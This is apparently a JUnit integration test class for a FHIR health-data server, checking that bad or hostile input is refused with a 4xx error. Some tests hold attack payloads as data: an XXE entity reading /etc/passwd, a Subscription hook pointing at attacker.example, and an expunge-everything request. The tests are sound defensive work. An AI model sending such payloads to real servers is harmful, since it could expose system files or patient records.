package org.securefhir.server.fhir;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.List;
import org.hl7.fhir.r4.model.OperationOutcome;
import org.junit.jupiter.api.Test;
import org.securefhir.server.support.AbstractFhirServerIT;
import org.securefhir.server.support.TestFhirClient;
import org.securefhir.server.support.TestFhirClient.Response;
import org.securefhir.server.support.TestResources;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;

/** Client mistakes get a 4xx OperationOutcome: never a 500, never a stack trace. */
class BadInputIT extends AbstractFhirServerIT {

    @Test
    void createWhenJsonIsMalformedThenBadRequest() {
        Response response = fhir().send("POST", "/Patient", TestFhirClient.FHIR_JSON, "{\"resourceType\":\"Patient\",");

        assertClientError(response, 400);
    }

    @Test
    void createWhenXmlIsMalformedThenBadRequest() {
        Response response = fhir().send(
                        "POST", "/Patient", "application/fhir+xml", "<Patient xmlns=\"http://hl7.org/fhir\"><name>");

        assertClientError(response, 400);
    }

    @Test
    void createWhenXmlDeclaresExternalEntityThenRefusedWithoutResolvingIt() {
        String xxe = "<?xml version=\"1.0\"?><!DOCTYPE p [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                + "<Patient xmlns=\"http://hl7.org/fhir\"><name><family value=\"&x;\"/></name></Patient>";

        Response response = fhir().send("POST", "/Patient", "application/fhir+xml", xxe);

        assertClientError(response, 400);
        assertThat(response.body()).doesNotContain("root:");
    }

    @Test
    void createWhenAContainedResourceRefersToAnotherThatHapiCannotEncodeThenUnprocessableNotAServerError() {
        // valid FHIR (a contained resource refers to a sibling: CarePlan-f202 of the HL7 examples),
        // which HAPI cannot encode for storage (HAPI-2724): answered 422, not 500
        String medication = "{\"resourceType\":\"Medication\",\"contained\":["
                + "{\"resourceType\":\"Medication\",\"id\":\"doce\",\"code\":{\"text\":\"Docetaxel\"}},"
                + "{\"resourceType\":\"Medication\",\"id\":\"tpf\",\"code\":{\"text\":\"TPF\"},"
                + "\"ingredient\":[{\"itemReference\":{\"reference\":\"#doce\"}}]}],"
                + "\"code\":{\"text\":\"regimen\"},\"ingredient\":[{\"itemReference\":{\"reference\":\"#tpf\"}}]}";

        String id = "regimen-" + System.nanoTime();
        String transaction = "{\"resourceType\":\"Bundle\",\"type\":\"transaction\",\"entry\":[{\"resource\":"
                + medication.replace(
                        "{\"resourceType\":\"Medication\",\"contained\"",
                        "{\"resourceType\":\"Medication\",\"id\":\"" + id + "\",\"contained\"")
                + ",\"request\":{\"method\":\"PUT\",\"url\":\"Medication/" + id + "\"}}]}";

        Response single = fhir().send("POST", "/Medication", TestFhirClient.FHIR_JSON, medication);
        Response inTransaction = fhir().send("POST", "", TestFhirClient.FHIR_JSON, transaction);

        assertClientError(single, 400);
        assertClientError(inTransaction, 422);
        assertThat(inTransaction.body()).contains("HAPI-2724");
        assertThat(fhir().get("/Medication/" + id).status()).isEqualTo(404);
    }

    @Test
    void whenAnOperationDefinitionIsStoredThenItReadsBackNotShadowedByTheServersOwn() {
        String id = "stored-op-" + System.nanoTime();
        org.hl7.fhir.r4.model.OperationDefinition definition = new org.hl7.fhir.r4.model.OperationDefinition();
        definition.setId(id);
        definition.setName("StoredOperation");
        definition.setStatus(org.hl7.fhir.r4.model.Enumerations.PublicationStatus.ACTIVE);
        definition.setKind(org.hl7.fhir.r4.model.OperationDefinition.OperationKind.OPERATION);
        definition.setCode("stored");
        definition.setSystem(true);
        definition.setType(false);
        definition.setInstance(false);

        assertThat(fhir().put("/OperationDefinition/" + id, definition).status())
                .isEqualTo(201);
        Response read = fhir().get("/OperationDefinition/" + id);

        assertThat(read.status()).as(read.body()).isEqualTo(200);
        assertThat(read.body()).contains("StoredOperation");
    }

    @Test
    void createWhenTheIdIsNumericThenItIsKeptAsTheClientChoseIt() {
        String id = Long.toString(System.nanoTime());
        org.hl7.fhir.r4.model.Organization organization = new org.hl7.fhir.r4.model.Organization();
        organization.setId(id);
        organization.setName("numeric " + id);

        Response created = fhir().put("/Organization/" + id, organization);

        assertThat(created.status()).as(created.body()).isEqualTo(201);
        assertThat(fhir().get("/Organization/" + id).status()).isEqualTo(200);
    }

    @Test
    void createWhenResourceTypeDoesNotMatchEndpointThenBadRequest() {
        Response response = fhir().post("/Patient", TestResources.encounter("Patient/1"));

        assertClientError(response, 400);
    }

    @Test
    void createWhenBodyHasUnknownElementThenBadRequest() {
        Response response = fhir().send(
                        "POST",
                        "/Patient",
                        TestFhirClient.FHIR_JSON,
                        "{\"resourceType\":\"Patient\",\"favouriteColour\":\"blue\"}");

        assertClientError(response, 400);
    }

    @Test
    void createWhenPrimitiveValueIsInvalidThenBadRequest() {
        Response response = fhir().send(
                        "POST",
                        "/Patient",
                        TestFhirClient.FHIR_JSON,
                        "{\"resourceType\":\"Patient\",\"birthDate\":\"not-a-date\"}");

        assertClientError(response, 400);
    }

    @Test
    void createWhenBodyIsNotFhirThenClientError() {
        Response response = fhir().send("POST", "/Patient", "text/plain", "hello");

        assertThat(response.status()).isBetween(400, 499);
        assertNoStackTrace(response);
    }

    @Test
    void createWhenRequiredElementMissingThenUnprocessableEntityNamingIt() {
        Response response = fhir().send(
                        "POST",
                        "/Encounter",
                        TestFhirClient.FHIR_JSON,
                        "{\"resourceType\":\"Encounter\",\"class\":{\"code\":\"AMB\"}}");

        assertClientError(response, 422);
        assertThat(response.as(OperationOutcome.class).getIssueFirstRep().getDiagnostics())
                .contains("Encounter.status");
    }

    @Test
    void patchWhenItRemovesRequiredElementThenUnprocessableEntityAndResourceUnchanged() {
        TestFhirClient fhir = fhir();
        String id = fhir.create("/Encounter", TestResources.encounter("Patient/" + patientId(fhir)));

        Response response = fhir.send(
                "PATCH",
                "/Encounter/" + id,
                "application/json-patch+json",
                "[{\"op\":\"remove\",\"path\":\"/status\"}]");

        assertClientError(response, 422);
        assertThat(fhir.get("/Encounter/" + id)
                        .as(org.hl7.fhir.r4.model.Encounter.class)
                        .hasStatus())
                .isTrue();
    }

    @Test
    void transactionWhenOneEntryLacksRequiredElementThenNothingIsStored() {
        TestFhirClient fhir = fhir();
        String family = FhirRestIT.unique("TxInvalid");
        org.hl7.fhir.r4.model.Bundle transaction =
                new org.hl7.fhir.r4.model.Bundle().setType(org.hl7.fhir.r4.model.Bundle.BundleType.TRANSACTION);
        transaction
                .addEntry()
                .setResource(TestResources.patient(family, "1970-01-01"))
                .getRequest()
                .setMethod(org.hl7.fhir.r4.model.Bundle.HTTPVerb.POST)
                .setUrl("Patient");
        transaction
                .addEntry()
                .setResource(new org.hl7.fhir.r4.model.Encounter()
                        .setClass_(new org.hl7.fhir.r4.model.Coding(
                                "http://terminology.hl7.org/CodeSystem/v3-ActCode", "AMB", null)))
                .getRequest()
                .setMethod(org.hl7.fhir.r4.model.Bundle.HTTPVerb.POST)
                .setUrl("Encounter");

        Response response = fhir.post("", transaction);

        assertClientError(response, 422);
        assertThat(fhir.get("/Patient?family=" + family)
                        .as(org.hl7.fhir.r4.model.Bundle.class)
                        .getEntry())
                .isEmpty();
    }

    @Test
    void readWhenIdIsInvalidThenBadRequest() {
        Response response = fhir().get("/Patient/" + "a".repeat(100));

        assertClientError(response, 400);
    }

    @Test
    void readWhenIdHasIllegalCharactersThenClientError() {
        Response response = fhir().get("/Patient/abc$def");

        assertThat(response.status()).isBetween(400, 404);
        assertNoStackTrace(response);
    }

    @Test
    void vreadWhenVersionIsInvalidThenBadRequest() {
        assertClientError(fhir().get("/Patient/abc/_history/" + "9".repeat(70)), 400);
    }

    @Test
    void readWhenResourceDoesNotExistThenNotFound() {
        assertClientError(fhir().get("/Patient/does-not-exist-anywhere"), 404);
    }

    @Test
    void readWhenResourceTypeIsUnknownThenClientError() {
        Response response = fhir().get("/Spaceship/1");

        assertThat(response.status()).isBetween(400, 404);
        assertThat(response.as(OperationOutcome.class).getIssue()).isNotEmpty();
    }

    @Test
    void requestWhenResourceTypeIsValidFhirButNotServedThenNotFound() {
        // Subscription is never served: the server would send data to the subscriber's URL
        Response read = fhir().get("/Subscription/1");
        Response create = fhir().send(
                        "POST",
                        "/Subscription",
                        TestFhirClient.FHIR_JSON,
                        "{\"resourceType\":\"Subscription\",\"status\":\"requested\",\"reason\":\"x\","
                                + "\"criteria\":\"Patient?\",\"channel\":{\"type\":\"rest-hook\","
                                + "\"endpoint\":\"https://attacker.example/hook\"}}");

        assertThat(read.status()).isEqualTo(404);
        assertThat(create.status()).isBetween(400, 405);
        assertNoStackTrace(create);
    }

    @Test
    void contextWhenStartedThenEveryR4TypeButSubscriptionIsServed(@Autowired ApplicationContext context) {
        for (String type : List.of("Account", "SupplyDelivery", "ImagingStudy", "Patient", "Claim")) {
            assertThat(context.containsBeanDefinition("my" + type + "DaoR4"))
                    .as(type)
                    .isTrue();
            assertThat(context.containsBeanDefinition("my" + type + "RpR4"))
                    .as(type)
                    .isTrue();
        }
        assertThat(fhir().get("/Account?_count=1").status()).isEqualTo(200);
        assertThat(fhir().get("/Subscription?_count=1").status()).isEqualTo(404);
    }

    @Test
    void searchWhenParameterIsUnknownThenBadRequest() {
        assertClientError(fhir().get("/Patient?shoe-size=42"), 400);
    }

    @Test
    void searchWhenDateIsMalformedThenBadRequest() {
        assertClientError(fhir().get("/Patient?birthdate=yesterday-ish"), 400);
    }

    @Test
    void createWhenDeclaredBodyExceedsLimitThenPayloadTooLargeBeforeBodyIsSent() throws Exception {
        String head =
                "POST /fhir/Patient HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + accessToken() + "\r\n"
                        + "Content-Type: application/fhir+json\r\nContent-Length: " + (11 * 1024 * 1024)
                        + "\r\nExpect: 100-continue\r\n\r\n";

        String answer;
        try (javax.net.ssl.SSLSocket socket = (javax.net.ssl.SSLSocket)
                TestFhirClient.trusting(certificate()).getSocketFactory().createSocket("localhost", port)) {
            socket.setSoTimeout(10000);
            socket.getOutputStream().write(head.getBytes(java.nio.charset.StandardCharsets.US_ASCII));
            socket.getOutputStream().flush();
            answer = new String(socket.getInputStream().readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
        }

        assertThat(answer).startsWith("HTTP/1.1 413").doesNotContain("100 Continue");
        assertThat(answer).contains("\"resourceType\":\"OperationOutcome\"").contains("too-costly");
    }

    @Test
    void createWhenChunkedBodyExceedsLimitThenPayloadTooLarge() {
        byte[] huge = new byte[10 * 1024 * 1024 + 64 * 1024];
        Arrays.fill(huge, (byte) ' ');

        Response response = fhir().sendLarge("/Patient", huge, true);

        assertClientError(response, 413);
    }

    @Test
    void createWhenHttp2BodyWithoutLengthExceedsLimitThenPayloadTooLarge() {
        byte[] huge = new byte[10 * 1024 * 1024 + 64 * 1024];
        Arrays.fill(huge, (byte) ' ');

        Response response = fhir().sendLarge("/Patient", huge, true, java.net.http.HttpClient.Version.HTTP_2);

        assertClientError(response, 413);
    }

    @Test
    void createWhenChunkedBodyIsWithinLimitThenAccepted() {
        byte[] body = TestFhirClient.encode(TestResources.patient("Chunked", "1970-01-01"))
                .getBytes(java.nio.charset.StandardCharsets.UTF_8);

        Response response = fhir().sendLarge("/Patient", body, true);

        assertThat(response.status()).isEqualTo(201);
    }

    @Test
    void operationWhenNotOnAllowListThenForbidden() {
        Response expunge = fhir().send(
                        "POST",
                        "/$expunge",
                        TestFhirClient.FHIR_JSON,
                        "{\"resourceType\":\"Parameters\",\"parameter\":[{\"name\":\"expungeEverything\",\"valueBoolean\":true}]}");
        Response reindex =
                fhir().send("POST", "/$reindex", TestFhirClient.FHIR_JSON, "{\"resourceType\":\"Parameters\"}");

        assertClientError(expunge, 403);
        assertThat(reindex.status()).isBetween(400, 404);
    }

    @Test
    void graphqlWhenRequestedThenNotServed() {
        Response response = fhir().get("/$graphql?query=%7BPatientList%7Bid%7D%7D");

        assertThat(response.status()).isBetween(400, 404);
        assertNoStackTrace(response);
    }

    @Test
    void multipleDeleteWhenConditionMatchesSeveralThenRefused() {
        TestFhirClient fhir = fhir();
        String family = FhirRestIT.unique("Multi");
        fhir.post("/Patient", TestResources.patient(family, "1970-01-01"));
        fhir.post("/Patient", TestResources.patient(family, "1970-01-02"));

        Response response = fhir.delete("/Patient?family=" + family);

        assertThat(response.status()).isBetween(400, 412);
        assertNoStackTrace(response);
    }

    private static String patientId(TestFhirClient fhir) {
        return fhir.create("/Patient", TestResources.patient(FhirRestIT.unique("Subject"), "1980-01-01"));
    }

    private static void assertClientError(Response response, int status) {
        assertThat(response.status()).as(response.body()).isEqualTo(status);
        OperationOutcome outcome = response.as(OperationOutcome.class);
        assertThat(outcome.getIssue()).isNotEmpty();
        assertThat(outcome.getIssueFirstRep().getSeverity())
                .isIn(OperationOutcome.IssueSeverity.ERROR, OperationOutcome.IssueSeverity.FATAL);
        assertNoStackTrace(response);
    }

    private static void assertNoStackTrace(Response response) {
        assertThat(response.status()).isLessThan(500);
        assertThat(response.body()).doesNotContainPattern("\\bat [a-z]+\\.[a-z]+\\.[A-Za-z.$]+\\(");
        assertThat(response.body()).doesNotContain("Exception:").doesNotContain("java.lang.");
    }
}
